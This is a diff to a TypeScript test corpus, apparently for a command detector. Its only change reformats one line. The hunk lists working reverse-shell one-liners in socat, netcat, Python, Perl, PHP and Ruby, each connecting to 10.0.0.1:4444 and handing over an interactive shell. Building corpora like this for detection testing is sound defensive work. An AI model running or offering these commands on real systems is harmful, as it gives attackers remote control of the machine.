@@ -313,7 +313,8 @@ export const CORPUS: readonly CorpusCase[] = [
     'socat tcp-connect:10.0.0.1:4444 exec:"bash -li",pty,stderr',
     'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
     'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
-    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
+    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
+      'connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'',
     'php -r \'$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
     'ruby -rsocket -e \'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
   ),
